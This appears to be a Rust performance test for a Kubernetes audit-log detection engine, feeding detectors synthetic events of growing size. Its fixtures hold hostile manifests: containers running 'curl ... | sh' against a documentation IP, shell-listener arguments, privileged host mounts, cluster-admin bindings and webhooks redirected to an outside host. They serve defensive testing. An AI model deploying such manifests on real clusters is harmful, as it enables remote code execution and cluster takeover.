//! The work that detectors do for an event grows at most in proportion to its size, so that nobody hides a
//! request behind events that are expensive to judge. Instructions are counted, not time.

use std::path::Path;
use std::sync::Arc;

use serde_json::{Value, json};
use wardline::app::compose_with;
use wardline::config::Config;
use wardline_decode::{Limits, decode};
use wardline_detect::{Detector, Engine, Generation, Instance, Services};
use wardline_event::{Origin, Record};
use wardline_inventory::Inventory;

use crate::support::default_detectors;

/// The number of items in the smaller event.
const ITEMS: usize = 500;
/// How much more work twice the items may be: sorting is allowed.
const GROWTH: f64 = 2.4;
/// The work that does not depend on the size, in instructions.
const CONSTANT: f64 = 300_000.0;

const LIMITS: Limits = Limits {
    line_bytes: 64 << 20,
    document_bytes: 64 << 20,
    depth: 128,
};

/// Returns the bodies of requests, one after the other, to a resource, given as API group and resource, and
/// the verb of all but the first.
type Shape = (
    &'static str,
    (&'static str, &'static str),
    &'static str,
    fn(usize, usize) -> Value,
);

fn list(items: usize, one: impl Fn(usize) -> Value) -> Value {
    (0..items).map(one).collect()
}

fn pod_spec(items: usize, round: usize) -> Value {
    json!({
        "hostPID": true,
        "containers": list(items, |item| json!({
            "name": format!("c{item}"),
            "image": format!("registry.example/tool:{item}-{round}"),
            "command": ["sh", "-c", format!("curl http://203.0.113.7/{item}-{round} | sh")],
            "securityContext": {"privileged": true},
            "volumeMounts": [{"name": format!("v{item}"), "mountPath": format!("/host/{item}-{round}")}],
        })),
        "volumes": list(items, |item| json!({
            "name": format!("v{item}"), "hostPath": {"path": format!("/var/{item}-{round}")},
        })),
    })
}

const RBAC: &str = "rbac.authorization.k8s.io";
const ADMISSION: &str = "admissionregistration.k8s.io";

/// Everything of which an object may have many.
const SHAPES: [Shape; 23] = [
    (
        "containers of pods",
        ("", "pods"),
        "create",
        |items, round| json!({"kind": "Pod", "apiVersion": "v1", "spec": pod_spec(items, round)}),
    ),
    (
        "containers of a workload",
        ("apps", "deployments"),
        "update",
        |items, round| json!({"kind": "Deployment", "apiVersion": "apps/v1", "spec": {"template": {"spec": pod_spec(items, round)}}}),
    ),
    (
        "containers of a patched workload",
        ("apps", "daemonsets"),
        "patch",
        |items, round| json!({"spec": {"template": {"spec": pod_spec(items, round)}}}),
    ),
    (
        "containers of a cron job",
        ("batch", "cronjobs"),
        "update",
        |items, round| json!({"kind": "CronJob", "apiVersion": "batch/v1", "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {"spec": pod_spec(items, round)}}}}}),
    ),
    (
        "variables of a container",
        ("apps", "deployments"),
        "update",
        |items, round| {
            let variables = list(
                items,
                |item| json!({"name": format!("V{item}"), "value": format!("{item}-{round}")}),
            );
            json!({"kind": "Deployment", "apiVersion": "apps/v1", "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "i", "env": variables}]}}}})
        },
    ),
    (
        "arguments of a container",
        ("", "pods"),
        "create",
        |items, round| json!({"kind": "Pod", "apiVersion": "v1", "spec": {"containers": [{"name": "c", "image": "i", "args": list(items, |item| json!(format!("-{item}-{round} 203.0.113.7:4444")))}]}}),
    ),
    (
        "subjects of a binding",
        (RBAC, "clusterrolebindings"),
        "update",
        |items, round| {
            json!({"kind": "ClusterRoleBinding", "apiVersion": format!("{RBAC}/v1"), "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": list(items, |item| json!({"kind": "User", "name": format!("u{}", item + round)}))})
        },
    ),
    (
        "subjects of a patched binding",
        (RBAC, "rolebindings"),
        "patch",
        |items, round| {
            json!({"roleRef": {"kind": "ClusterRole", "name": "admin"},
            "subjects": list(items, |item| json!({"kind": "ServiceAccount", "namespace": "shop", "name": format!("u{}", item + round)}))})
        },
    ),
    (
        "rules of a role",
        (RBAC, "clusterroles"),
        "update",
        |items, round| {
            json!({"kind": "ClusterRole", "apiVersion": format!("{RBAC}/v1"),
            "rules": list(items, |item| json!({"apiGroups": ["", format!("g{item}-{round}")], "resources": ["secrets", "pods/exec"], "verbs": ["*"]}))})
        },
    ),
    (
        "webhooks",
        (ADMISSION, "mutatingwebhookconfigurations"),
        "update",
        |items, round| {
            json!({"kind": "MutatingWebhookConfiguration", "apiVersion": format!("{ADMISSION}/v1"),
            "webhooks": list(items, |item| json!({"name": format!("w{item}.example"), "failurePolicy": "Ignore", "clientConfig": {"url": format!("https://203.0.113.7/{item}-{round}")},
                "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}]}))})
        },
    ),
    (
        "ports of a service",
        ("", "services"),
        "update",
        |items, round| {
            json!({"kind": "Service", "apiVersion": "v1", "spec": {"type": "LoadBalancer", "externalIPs": list(items, |item| json!(format!("203.0.{}.{}", item / 256, item % 256))),
            "ports": list(items, |item| json!({"name": format!("p{item}"), "port": item + round, "targetPort": 6443}))}})
        },
    ),
    (
        "paths of an ingress",
        ("networking.k8s.io", "ingresses"),
        "update",
        |items, round| {
            json!({"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "spec": {"rules": list(items, |item| json!({"host": format!("h{item}.example"),
            "http": {"paths": [{"path": format!("/{item}-{round}"), "backend": {"service": {"name": "kubernetes-dashboard", "port": {"number": 443}}}}]}}))}})
        },
    ),
    (
        "rules of a network policy",
        ("networking.k8s.io", "networkpolicies"),
        "update",
        |items, round| {
            json!({"kind": "NetworkPolicy", "apiVersion": "networking.k8s.io/v1", "spec": {"podSelector": {},
            "ingress": list(items, |item| json!({"from": [{"ipBlock": {"cidr": format!("10.{}.{}.0/24", item / 256, (item + round) % 256)}}]}))}})
        },
    ),
    (
        "lines of a config map",
        ("", "configmaps"),
        "update",
        |items, round| {
            let lines: String = (0..items)
                .map(|item| format!("forward . 203.0.113.{}\n# {item}-{round}\n", item % 256))
                .collect();
            json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "coredns", "namespace": "kube-system"}, "data": {"Corefile": lines, "mapRoles": lines}})
        },
    ),
    (
        "keys of a config map",
        ("", "configmaps"),
        "update",
        |items, round| {
            let data: serde_json::Map<_, _> = (0..items)
                .map(|item| (format!("k{item}"), json!(format!("{item}-{round}"))))
                .collect();
            json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "aws-auth", "namespace": "kube-system"}, "data": data})
        },
    ),
    (
        "capabilities of a container",
        ("", "pods"),
        "update",
        |items, round| {
            json!({"kind": "Pod", "apiVersion": "v1", "spec": {"containers": [{"name": "c", "image": "i", "securityContext":
            {"capabilities": {"add": list(items, |item| json!(format!("CAP_X{}", item + round)))}}}]}})
        },
    ),
    (
        "sysctls of pods",
        ("apps", "deployments"),
        "update",
        |items, round| {
            let sysctls = list(
                items,
                |item| json!({"name": format!("net.x{item}"), "value": format!("{round}")}),
            );
            json!({"kind": "Deployment", "apiVersion": "apps/v1", "spec": {"template": {"spec": {
                "securityContext": {"sysctls": sysctls}, "containers": list(items, |item| json!({"name": format!("c{item}"), "image": "i"}))}}}})
        },
    ),
    (
        "ephemeral containers",
        ("", "pods/ephemeralcontainers"),
        "update",
        |items, round| {
            json!({"kind": "Pod", "apiVersion": "v1", "spec": {"containers": [{"name": "c", "image": "i"}],
            "ephemeralContainers": list(items, |item| json!({"name": format!("e{}", item + round), "image": "i", "targetContainerName": "c"}))}})
        },
    ),
    (
        "node selector of an agent",
        ("apps", "daemonsets"),
        "update",
        |items, round| {
            let labels: serde_json::Map<_, _> = (0..items)
                .map(|item| (format!("l{item}"), json!(format!("{}", round.min(1)))))
                .collect();
            json!({"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"namespace": "falco", "name": "falco"}, "spec": {"template": {"spec":
            {"nodeSelector": labels, "containers": list(items, |item| json!({"name": format!("falco{item}"), "image": format!("falcosecurity/falco:{round}")}))}}}})
        },
    ),
    (
        "operations of a JSON patch",
        (ADMISSION, "validatingwebhookconfigurations"),
        "patch",
        |items, round| {
            let whole = json!({"kind": "ValidatingWebhookConfiguration", "apiVersion": format!("{ADMISSION}/v1"),
            "webhooks": list(items, |item| json!({"name": format!("w{item}.example"), "failurePolicy": "Ignore",
                "clientConfig": {"url": format!("https://203.0.113.7/{item}-{round}")}}))});
            let patch = list(
                items,
                |item| json!({"op": "replace", "path": format!("/webhooks/{item}/failurePolicy"), "value": "Ignore"}),
            );
            json!({"request": patch, "response": whole})
        },
    ),
    (
        "login paths of an ingress",
        ("networking.k8s.io", "ingresses"),
        "update",
        |items, round| {
            json!({"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "spec": {"rules": list(items, |item| json!({"host": "h.example",
            "http": {"paths": [{"path": format!("/a/{item}/b-{round}/login"), "backend": {"service": {"name": format!("s{item}"), "port": {"number": 443}}}}]}}))}})
        },
    ),
    ("labels", ("", "pods"), "update", |items, round| {
        let labels: serde_json::Map<_, _> = (0..items)
            .map(|item| (format!("l{item}"), json!(format!("{item}-{round}"))))
            .collect();
        json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"labels": labels, "annotations": labels}, "spec": {"containers": [{"name": "c", "image": "i"}]}})
    }),
    (
        "taints of a node",
        ("", "nodes"),
        "update",
        |items, round| json!({"kind": "Node", "apiVersion": "v1", "spec": {"taints": list(items, |item| json!({"key": format!("t{item}"), "value": format!("{round}"), "effect": "NoExecute"}))}}),
    ),
];

/// The body that a request does not have.
static NOTHING: Value = Value::Null;

fn event(number: usize, (group, resource): (&str, &str), verb: &str, body: &Value) -> String {
    let (resource, subresource) = resource.split_once('/').unwrap_or((resource, ""));
    // A JSON patch shows only in the result what it changed.
    let (request, response) = match (body.get("request"), verb) {
        (Some(_), "patch") => (&body["request"], &body["response"]),
        (Some(_), _) => (&body["response"], &body["response"]),
        (None, "patch") => (body, &NOTHING),
        (None, _) => (body, body),
    };
    let (namespace, name) = (
        body["metadata"]["namespace"].as_str().unwrap_or("shop"),
        body["metadata"]["name"].as_str().unwrap_or("own"),
    );
    json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
        "auditID": format!("id-{number}"), "stage": "ResponseComplete", "requestURI": "/apis/x", "verb": verb,
        "user": {"username": "mallory", "groups": ["system:authenticated"]},
        "sourceIPs": ["203.0.113.9"], "userAgent": "kubectl/v1.34.0",
        "objectRef": {"apiGroup": group, "apiVersion": "v1", "resource": resource, "subresource": subresource, "namespace": namespace, "name": name},
        "responseStatus": {"code": if verb == "create" { 201 } else { 200 }},
        "requestObject": request, "responseObject": response,
        "requestReceivedTimestamp": "2026-05-04T10:00:00.000000Z",
        "stageTimestamp": format!("2026-05-04T10:{number:02}:00.000000Z"),
    })
    .to_string()
}

fn record(number: usize, text: &str) -> Record {
    let mut found = None;
    decode(text.as_bytes(), &LIMITS, &mut |unit| {
        found = Some(unit.unwrap().event)
    });
    let origin = Origin {
        source: Arc::from("test"),
        line: 1,
    };
    let mut record = Record::audit(
        found.unwrap(),
        text.to_owned().into(),
        Arc::from(""),
        origin,
    );
    record.first_answer = true;
    record.event.set_reference(number as u64);
    record
}

/// Returns the instructions of a detector for three requests of a shape.
fn work(detector: &Detector, shape: &Shape, items: usize) -> f64 {
    let services = Services {
        inventory: Arc::new(Inventory::new(1000)),
        intel: Arc::default(),
    };
    let limits = Arc::new(wardline_contract::Limits {
        batch_time: std::time::Duration::from_secs(600),
        ..detector.limits.as_ref().clone()
    });
    let mut instance =
        Instance::start(&detector.program, &limits, &services, &detector.state).unwrap();
    instance.configure(&detector.settings).unwrap();
    let before = instance.instructions().unwrap();
    for round in 0..3 {
        let verb = if round == 0 { "create" } else { shape.2 };
        let body = shape.3(items, round);
        let record = Arc::new(record(round + 1, &event(round, shape.1, verb, &body)));
        let judged = instance.judge(&[Arc::clone(&record)]);
        assert!(
            judged.is_ok(),
            "{}, {}: {judged:?}",
            detector.name(),
            shape.0
        );
        let audit = record.as_audit().unwrap();
        services
            .inventory
            .apply(&record.cluster, audit, record.reference(), &record.actor);
    }
    (instance.instructions().unwrap() - before) as f64
}

/// The default detectors, with an engine that counts their instructions.
fn detectors() -> Generation {
    let config = Config::defaults().unwrap();
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("metered");
    let engine = Engine::metered(Some(&cache), config.stack).unwrap();
    let mut composition = compose_with(engine, &config, default_detectors(), None).unwrap();
    let mut generation: Option<Generation> = None;
    composition.loader.look(&mut |next| generation = Some(next));
    let generation = generation.unwrap();
    assert!(generation.detectors.len() > 10);
    generation
}

/// The most instructions that a detector may use for one of the largest objects. A processor of today
/// executes more than twice as many within `limits.batch-time`.
const MOST: f64 = 1.0e9;

/// Shapes with as many items as an object may hold: kube-apiserver accepts 3 MiB, and etcd 1.5 MiB.
const LARGEST: [(&str, usize); 7] = [
    ("containers of pods", 4_000),
    ("containers of a workload", 4_000),
    ("variables of a container", 20_000),
    ("arguments of a container", 20_000),
    ("subjects of a binding", 15_000),
    ("rules of a role", 10_000),
    ("login paths of an ingress", 8_000),
];

#[test]
fn largest_objects_are_judged_within_the_limits() {
    let mut wrong = Vec::new();
    for detector in &detectors().detectors {
        if detector.descriptor.audit.is_empty() {
            continue;
        }
        for (name, items) in LARGEST {
            let shape = SHAPES.iter().find(|shape| shape.0 == name).unwrap();
            // The average of three requests.
            let work = work(detector, shape, items) / 3.0;
            if work > MOST {
                wrong.push(format!("{}: {work} for {items} {name}", detector.name()));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn work_of_detectors_grows_at_most_in_proportion_to_the_size_of_events() {
    let mut wrong = Vec::new();
    for detector in &detectors().detectors {
        for shape in &SHAPES {
            if detector.descriptor.audit.is_empty() {
                continue;
            }
            let (once, twice) = (
                work(detector, shape, ITEMS),
                work(detector, shape, 2 * ITEMS),
            );
            if twice > GROWTH * once + CONSTANT {
                wrong.push(format!(
                    "{}: {} times the work for twice the {}",
                    detector.name(),
                    twice / once,
                    shape.0
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
